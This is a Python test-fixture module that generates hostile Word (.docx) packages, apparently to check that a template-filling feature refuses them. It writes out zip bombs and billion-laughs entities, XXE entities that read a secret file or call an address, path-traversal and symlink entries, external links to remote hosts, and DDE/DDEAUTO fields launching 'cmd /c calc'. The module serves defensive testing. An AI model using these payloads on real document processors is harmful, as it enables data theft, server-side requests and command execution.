"""Packages that are built to harm, by kind; each links to an address at which somebody listens."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from tests.export.templates.making import CASES, box, control, p, package, r, table

READ, REFUSED, EITHER = "read", "refused", "either"
SECRET = "机要暗语"
_MEGABYTE = 1 << 20
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TEXT = p(r("{{标题}}")) + p(r("各村要做好秋收秸秆禁烧工作，落实网格责任。"))
_GOOD = package(_TEXT)


@dataclass(frozen=True)
class Hostile:
    """A package, and whether its text may be read and it may be filled as a template."""

    name: str
    content: bytes
    read: str
    fill: str


def hostile(address: str, secret: str) -> Iterator[Hostile]:
    """Yield all packages; `address` is host and port, `secret` the path of a file that nobody may read."""
    for name, content, read in (*_bombs(), *_entities(address, secret), *_broken()):
        # What Word makes new documents from is filled as a document.
        yield Hostile(name, content, read, "done" if name.endswith("template.main+xml") else REFUSED)
    for name, content, read in _containers():
        yield Hostile(name, content, read, REFUSED)
    for name, content in (*_linked(address), *_active(address), *_fields(address)):
        yield Hostile(name, content, READ, REFUSED)
    for name, content in _crowded():
        yield Hostile(name, content, EITHER, EITHER)
    for name, content in (*_truncated(), *_flipped()):
        yield Hostile(name, content, EITHER, EITHER)


_Judged = tuple[str, bytes, str]


def _with(path: str, content: str | bytes) -> bytes:
    """Return a good package with this part."""
    return package(_TEXT, more={path: content})


def _document(inner: str, declared: str = "") -> str:
    head = f'<?xml version="1.0" encoding="UTF-8"?>{declared}'
    return f'{head}<w:document xmlns:w="{_W}"><w:body>{inner}</w:body></w:document>'


# -- bombs ---------------------------------------------------------------------------------------------


def _bombs() -> Iterator[_Judged]:
    zeros = bytes(100 * _MEGABYTE)
    for path in ("word/media/a.png", "word/header9.xml", "customXml/item1.xml", "a.bin"):
        yield f"bomb in {path}", package(_TEXT, more={path: zeros}), REFUSED
    yield "bomb of blanks in the document", package(" " * (80 * _MEGABYTE)), REFUSED
    yield (
        "bomb of many parts",
        package(_TEXT, more={f"word/media/{n}.png": bytes(4 * _MEGABYTE) for n in range(20)}),
        REFUSED,
    )
    yield "bomb of entries", package(_TEXT, more={f"word/media/{n}.png": b"" for n in range(6_000)}), REFUSED
    yield "overlapping entries", _overlapping(), REFUSED
    yield "depth", package("<w:x>" * 100_000), REFUSED
    yield "depth that is closed", package("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000), REFUSED
    yield (
        "depth of tables",
        package("<w:tbl><w:tr><w:tc>" * 200 + p(r("{{标题}}")) + "</w:tc></w:tr></w:tbl>" * 200),
        REFUSED,
    )
    for name, size in (("paragraphs", 300_000), ("elements", 1_500_000)):
        yield f"many {name}", package(_TEXT + "<w:p/>" * size), READ if size < 1_000_000 else EITHER
    yield "many runs", package(p(r("{{标题}}各村要抓好工作") + "<w:r/>" * 900_000)), EITHER
    yield (
        "a giant attribute",
        package("<w:p w:rsid='" + "a" * (12 * _MEGABYTE) + f"'>{r('标题各村')}</w:p>"),
        REFUSED,
    )
    yield "a giant text", package(p(r("秋收工作" * (4 * _MEGABYTE)))), REFUSED
    yield "a giant comment", package(f"<!--{'x' * (12 * _MEGABYTE)}-->{_TEXT}"), REFUSED
    yield (
        "a giant part of styles",
        _with("word/styles.xml", f'<w:styles xmlns:w="{_W}">{"<w:style/>" * 900_000}</w:styles>'),
        READ,
    )
    yield (
        "a giant part of numbering",
        _with("word/numbering.xml", f'<w:numbering xmlns:w="{_W}">{"<w:num/>" * 900_000}</w:numbering>'),
        READ,
    )
    yield "markers without end", package(p(r("{{标题}}" * 20_000))), READ
    yield (
        "controls without end",
        package("".join(control(p(r("各村工作")), tag=f"t{n}") for n in range(5_000))),
        READ,
    )
    yield "masks without end", package("".join(p(r(f"第{n}项×××")) for n in range(5_000))), READ


def _overlapping() -> bytes:
    """Return an archive whose 2,000 entries all unpack the same megabytes."""
    once = io.BytesIO()
    with zipfile.ZipFile(once, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", bytes(_MEGABYTE))
    content = once.getvalue()
    at = content.index(b"PK\x01\x02")
    directory = content[at : content.index(b"PK\x05\x06")]
    entries = directory * 2_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2_000, 2_000, len(entries), at, 0)
    return content[:at] + entries + end


def _crowded() -> Iterator[tuple[str, bytes]]:
    signs = "{｛}｝【】«»$×xX*_＿〔〕：、 　年"
    for sign in signs:
        yield f"one sign, {sign}", package(p(r("各村工作" + sign * 100_000)))
    attributes = " ".join(f"w:a{n}='1'" for n in range(300_000))
    yield "many attributes", package(f"<w:p {attributes}>{r('各村工作')}</w:p>")
    yield "a count that lies", _changed(_GOOD, {_GOOD.index(b"PK\x05\x06") + 8: b"\xff" * 4})
    for pair in ("{{", "${", "【a", "«a", "×年", "{{{}", "标题：", "××〔"):
        yield f"pairs, {pair}", package(p(r("各村工作" + pair * 50_000)))
    for name, sign in (("runs", "{"), ("runs", "×"), ("runs", "字")):
        yield f"{name} of {sign}", package(p(r("各村工作"), *(r(sign) for _ in range(30_000))))
    for n in (1, 50, 500):
        marks = "".join(f'<w:bookmarkStart w:id="{i}" w:name="b{i}"/>' for i in range(n))
        ends = "".join(f'<w:bookmarkEnd w:id="{i}"/>' for i in range(n))
        yield f"{n} bookmarks around each other", package(p(marks, r("各村工作"), ends))
        yield f"{n} bookmarks over paragraphs", package(p(marks, r("各村工作")) + p(r("甲")) * 600 + p(ends))
    for depth in (10, 60):
        inside = p(r("各村工作")) + p(r("{{标题}}"))
        for _ in range(depth):
            inside = control(inside, tag="t")
        yield f"{depth} controls in each other", package(inside)
    deep = p(r("各村工作{{标题}}"))
    for _ in range(12):
        deep = p(box(deep, p(r("{{标题}}"))))
    yield "text boxes in each other", package(deep)
    yield (
        "a bookmark that ends before it begins",
        package(p('<w:bookmarkEnd w:id="1"/>', r("各村工作"), '<w:bookmarkStart w:id="1" w:name="标题"/>')),
    )
    yield (
        "a bookmark over cells",
        package(
            table(
                (
                    p('<w:bookmarkStart w:id="1" w:name="标题"/>', r("各村")),
                    p(r("工作"), '<w:bookmarkEnd w:id="1"/>'),
                )
            )
        ),
    )
    yield (
        "fields that never end",
        package(p(r("各村工作{{标题}}"), '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 20_000)),
    )
    yield (
        "fields that only end",
        package(p(r("各村工作{{标题}}"), '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 20_000)),
    )


# -- entities ------------------------------------------------------------------------------------------


def _entities(address: str, secret: str) -> Iterator[_Judged]:
    steps = ((chr(98 + n), f"&{chr(97 + n)};" * 10) for n in range(9))
    laughs = "".join(f'<!ENTITY {name} "{value}">' for name, value in steps)
    declared = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{address}/e">]>',
        "outside DTD": f'<!DOCTYPE x SYSTEM "http://{address}/e.dtd">',
        "public DTD": f'<!DOCTYPE x PUBLIC "-//X//Y" "http://{address}/e.dtd">',
        "parameter": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{address}/e.dtd"> %e;]>',
        "laughs": f'<!DOCTYPE x [<!ENTITY a "哈哈">{laughs}<!ENTITY e "&j;">]>',
        "quadratic": '<!DOCTYPE x [<!ENTITY e "' + "哈" * 50_000 + '">]>',
    }
    for name, doctype in declared.items():
        used = "" if "DTD" in name or name == "parameter" else "&e;"
        text = p(f"<w:r><w:t>各村工作{used * (2_000 if name == 'quadratic' else 1)}</w:t></w:r>")
        yield (
            f"entity in the document: {name}",
            _with("word/document.xml", _document(text, doctype)),
            REFUSED,
        )
        sixteen = _document(text, doctype).replace("UTF-8", "UTF-16").encode("utf-16")
        yield f"entity in UTF-16: {name}", _with("word/document.xml", sixteen), REFUSED
        for path in (
            "word/styles.xml",
            "word/header1.xml",
            "docProps/custom.xml",
            "customXml/item1.xml",
            "word/_rels/document.xml.rels",
        ):
            yield (
                f"entity in {path}: {name}",
                package(_TEXT, more={path: f"<?xml version='1.0'?>{doctype}<x>{used}</x>"}),
                REFUSED,
            )
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{address}/x" parse="text"/>'
    )
    sheet = f'<?xml-stylesheet type="text/xsl" href="http://{address}/x.xsl"?>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{_W} http://{address}/x.xsd"'
    yield (
        "unknown encoding",
        _with("word/document.xml", _document(_TEXT).replace("UTF-8", "X-NONE")),
        REFUSED,
    )
    yield (
        "a style sheet and an inclusion, unfinished",
        _with("word/document.xml", _document(f"{_TEXT}{include}", sheet)[:-5]),
        REFUSED,
    )
    yield (
        "a schema, unfinished",
        _with("word/document.xml", _document(f"<w:p {schema}>{r('各村工作')}")),
        REFUSED,
    )


# -- what is broken, or is something else --------------------------------------------------------------


def _broken() -> Iterator[_Judged]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
    yield "empty", b"", REFUSED
    yield "rubbish", bytes(range(256)) * 500, REFUSED
    yield "an old .doc", ole, REFUSED
    yield "under a password", ole + "EncryptedPackage".encode("utf-16-le"), REFUSED
    yield "a web page", b"<html><script>alert(1)</script></html>", REFUSED
    yield "rich text", rb"{\rtf1{\object\objdata 0105}}", REFUSED
    yield "flat markup", _document(_TEXT).encode(), REFUSED
    for name, inner in (
        ("nothing", ""),
        ("no root", "<?xml version='1.0'?>"),
        ("two roots", "<a/><b/>"),
        ("no prefix", "<q:a/>"),
        ("bad bytes", "\ud800"),
        ("not closed", "<a>"),
        ("a null", "<a>\0</a>"),
    ):
        yield (
            f"document of {name}",
            _with("word/document.xml", inner.encode("utf-8", "surrogatepass")),
            REFUSED,
        )
    empty = package("")
    yield "no document", _without(_GOOD, "word/document.xml"), REFUSED
    yield "no kinds", _without(_GOOD, "[Content_Types].xml"), REFUSED
    yield "no links", _without(_GOOD, "_rels/.rels"), READ
    yield "the archive of an archive", package(_TEXT, more={"word/document.xml": empty}), REFUSED
    yield (
        "a document that is somewhere else",
        _with("_rels/.rels", _links("officeDocument", "word/other.xml")),
        READ,
    )
    strict = _document(_TEXT).replace(_W, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    yield "strict", _with("word/document.xml", strict), READ
    for kind in (
        "image/png",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "text/html",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    ):
        yield f"a document that is {kind}", package(_TEXT, more={"[Content_Types].xml": _kinds(kind)}), READ
    hidden = _kinds().replace(
        "</Types>", '<Override PartName="/word/a.png" ContentType="application/x+xml"/></Types>'
    )
    yield (
        "markup that is called a picture",
        package(_TEXT, more={"[Content_Types].xml": hidden, "word/a.png": b"<a/>"}),
        READ,
    )


def _without(content: bytes, path: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            if name != path:
                new.writestr(name, old.read(name))
    return buffer.getvalue()


def _kinds(
    kind: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
) -> str:
    return (
        f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    )


def _containers() -> Iterator[_Judged]:
    for path in (
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/evil.xml",
        "C:\\evil.xml",
        "..\\..\\evil.xml",
        "word/..\\../evil.png",
        "\\\\host\\evil.xml",
    ):
        yield f"outside: {path}", package(_TEXT, more={path: "<a/>"}), REFUSED
    for path in ("WORD/DOCUMENT.XML", "Word/document.xml"):
        yield f"twice: {path}", package(_TEXT, more={path: "<a/>"}), REFUSED
    twice = io.BytesIO(_GOOD)
    with zipfile.ZipFile(twice, "a") as archive:
        archive.NameToInfo.clear()  # so that it does not warn
        archive.writestr("word/document.xml", _document(p(r("各村工作"))))
    yield "twice, in one case", twice.getvalue(), REFUSED
    linked = io.BytesIO(_GOOD)
    with zipfile.ZipFile(linked, "a") as archive:
        entry = zipfile.ZipInfo("word/media/link.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    yield "a symbolic link", linked.getvalue(), REFUSED
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        packed = io.BytesIO(_GOOD)
        with zipfile.ZipFile(packed, "a") as archive:
            archive.writestr("word/media/a.png", b"x" * 1_000, method)
        yield f"packed by method {method}", packed.getvalue(), REFUSED
    first = _GOOD.index(b"PK\x01\x02")
    yield "marked as encrypted", _changed(_GOOD, {first + 8: b"\x01\x08"}), REFUSED
    yield "another method than it says", _changed(_GOOD, {first + 10: b"\x63\x00"}), REFUSED
    for name, size in (("small", 10), ("large", 200 * _MEGABYTE), ("of 64 bits", 0xFFFFFFFF)):
        yield f"a size that lies, {name}", _changed(_GOOD, {first + 24: struct.pack("<L", size)}), REFUSED
    yield "a sum that lies", _changed(_GOOD, {first + 16: b"\0\0\0\0"}), REFUSED
    yield "an offset that lies", _changed(_GOOD, {first + 42: struct.pack("<L", 1 << 30)}), REFUSED
    end = _GOOD.index(b"PK\x05\x06")
    yield "a directory that lies", _changed(_GOOD, {end + 16: struct.pack("<L", 1)}), REFUSED
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 1 << 62, 1)
    yield (
        "a locator of 64 bits that lies",
        _GOOD[:end] + locator + _changed(_GOOD[end:], {16: b"\xff" * 4}),
        REFUSED,
    )


def _changed(content: bytes, changes: dict[int, bytes]) -> bytes:
    changed = bytearray(content)
    for at, new in changes.items():
        changed[at : at + len(new)] = new
    return bytes(changed)


# -- what reaches outside ------------------------------------------------------------------------------


def _links(kind: str, target: str, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    main = (
        f'<Relationship Id="m" Type="{_REL}/officeDocument" Target="word/document.xml"/>'
        if kind != "officeDocument"
        else ""
    )
    own = f'<Relationship Id="x" Type="{_REL}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{main}{own}</Relationships>'


def _linked(address: str) -> Iterator[tuple[str, bytes]]:
    places = (
        f"http://{address}/x",
        f"https://{address}/x",
        f"ftp://{address}/x",
        f"\\\\{address}\\share\\x",
        f"//{address}/x",
        "file:///etc/passwd",
        "mhtml:file://x",
        "ms-word:ofe|u|http://x",
    )
    for place in places:
        for kind in ("attachedTemplate", "image"):
            yield (
                f"{kind} at {place}",
                _with("word/_rels/document.xml.rels", _links(kind, place, True)),
            )
    for kind in (
        "oleObject",
        "frame",
        "subDocument",
        "aFChunk",
        "mailMergeSource",
        "video",
        "font",
        "styles",
        "header",
        "webextensiontaskpanes",
    ):
        yield (
            f"outside {kind}",
            _with("word/_rels/document.xml.rels", _links(kind, f"http://{address}/{kind}", True)),
        )
    for place in ("file://server/x", "javascript:alert(1)", f"\\\\{address}\\x"):
        yield (
            f"a link to {place}",
            _with("word/_rels/document.xml.rels", _links("hyperlink", place, True)),
        )
    yield (
        "an inner link that goes out",
        _with("word/_rels/document.xml.rels", _links("image", f"http://{address}/x")),
    )
    yield (
        "an inner link that climbs",
        _with("word/_rels/document.xml.rels", _links("image", "../../../../etc/passwd")),
    )
    yield (
        "links of the settings",
        _with("word/_rels/settings.xml.rels", _links("attachedTemplate", f"http://{address}/t.dotm", True)),
    )
    yield "links of the package", _with("_rels/.rels", _links("image", f"http://{address}/x", True))
    v = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    for kind, name in (("imagedata", "src"), ("fill", "src"), ("imagedata", "o:href"), ("fill", "o:althref")):
        drawn = f'<w:r><w:pict><v:shape {v}><v:{kind} {name}="http://{address}/x"/></v:shape></w:pict></w:r>'
        yield f"a drawing's {kind} {name}", package(_TEXT + p(drawn))


def _active(address: str) -> Iterator[tuple[str, bytes]]:
    for path in (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/a.xlsx",
        "word/activeX/activeX1.bin",
        "word/a.exe",
        "word/a.html",
        "word/a.rtf",
        "word/printerSettings1.bin",
        "noending",
    ):
        yield f"embedded {path}", package(_TEXT, more={path: b"MZ\0"})
    for kind in (
        "oleObject",
        "package",
        "control",
        "vbaProject",
        "keyMapCustomizations",
        "attachedToolbars",
        "webextension",
        "activeXControlBinary",
    ):
        yield f"linked {kind}", _with("word/_rels/document.xml.rels", _links(kind, "x.xml"))
    o = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="x"'
    for name, inner in (
        ("object", f'<w:object><o:OLEObject {o} Type="Link" ProgID="Excel.Sheet" r:id="x"/></w:object>'),
        ("control", f'<w:object><w:control {o} r:id="x" w:name="a"/></w:object>'),
        ("chunk", f'<w:altChunk {o} r:id="x"/>'),
        ("sub-document", f'<w:subDoc {o} r:id="x"/>'),
    ):
        yield f"element: {name}", package(_TEXT + p(f"<w:r>{inner}</w:r>"))
    merging = f'<w:settings xmlns:w="{_W}"><w:mailMerge><w:query w:val="SELECT * FROM http://{address}"/></w:mailMerge></w:settings>'
    yield "a mail merge", _with("word/settings.xml", merging)
    kinds = _kinds().replace(
        "</Types>",
        '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
    )
    yield "a kind of part: activeX", package(_TEXT, more={"[Content_Types].xml": kinds})


def _fields(address: str) -> Iterator[tuple[str, bytes]]:
    told = {
        "DDE": 'cmd "/c calc"', "DDEAUTO": 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        "LINK": f'Excel.Sheet "http://{address}/a.xls"',
        "INCLUDETEXT": f'"http://{address}/a.docx"', "INCLUDEPICTURE": f'"http://{address}/a.png" \\d',
        "IMPORT": f'"http://{address}/a.png"',
        "INCLUDE": '"C:\\\\secret.docx"', "DATABASE": f'\\d "http://{address}/a.mdb"',
        "RD": '"C:\\\\secret.docx"', "EMBED": "Package",
        "PRINT": '27"l1O"',
    }  # fmt: skip
    for code, rest in told.items():
        yield (
            f"field {code}, simple",
            package(
                _TEXT + p(f"<w:fldSimple w:instr='{code} {rest.replace(chr(39), '')}'>{r('x')}</w:fldSimple>")
            ),
        )
        yield f"field {code}", package(_TEXT + p(_field(f" {code} {rest} ")))
        yield f"field {code} in small letters over runs", package(_TEXT + p(_field(*code.lower(), " ", rest)))
        yield f"field {code} in a header", package(_TEXT, {"header1": p(_field(f"{code} {rest}"))})
        yield f"field {code} in a text box", package(_TEXT + p(box(p(_field(f"{code} {rest}")))))
    yield (
        "a field that another computes",
        package(_TEXT + p(_field(_field(" QUOTE 68 68 69 "), ' cmd "/c calc"'))),
    )
    yield (
        "a field inside a harmless one",
        package(_TEXT + p(_field(" IF ", _field(' DDEAUTO cmd "/c calc" '), " = 1 "))),
    )
    yield (
        "a field in a comment part",
        _with("word/comments.xml", f'<w:comments xmlns:w="{_W}">{p(_field(" DDE cmd x "))}</w:comments>'),
    )


def _field(*told: str) -> str:
    parts = (
        t if t.startswith("<w:r>") else f"<w:r><w:instrText>{t.replace('&', '&amp;')}</w:instrText></w:r>"
        for t in told
    )
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "separate", "end")
    )
    return f"{begin}{''.join(parts)}{middle}{r('结果')}{end}"


# -- what chance makes ---------------------------------------------------------------------------------


def _truncated() -> Iterator[tuple[str, bytes]]:
    for part in range(1, 20):
        yield f"the first {part}/20", _GOOD[: len(_GOOD) * part // 20]
    for part in range(1, 10):
        yield f"without the first {part}/10", _GOOD[len(_GOOD) * part // 10 :]


def _flipped() -> Iterator[tuple[str, bytes]]:
    chance = random.Random(9704)
    goods = [case.template() for case in CASES]
    for n in range(60):
        content = bytearray(chance.choice(goods))
        for _ in range(chance.choice((1, 3, 20, 200))):
            content[chance.randrange(len(content))] = chance.randrange(256)
        yield f"flipped {n}", bytes(content)
    for n in range(60):
        case = chance.choice(CASES)
        inner = bytearray(_unpacked(case.template()).encode())
        for _ in range(chance.choice((1, 2, 5))):
            at = chance.randrange(len(inner))
            inner[at : at + chance.choice((0, 1, 30))] = chance.choice(
                (b"", b"<", b">", b"<w:p>", b"</w:p>", b"{{", b"\xff", b'"')
            )
        yield f"flipped inside {n}", package(_TEXT, more={"word/document.xml": bytes(inner)})


def _unpacked(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("word/document.xml").decode()
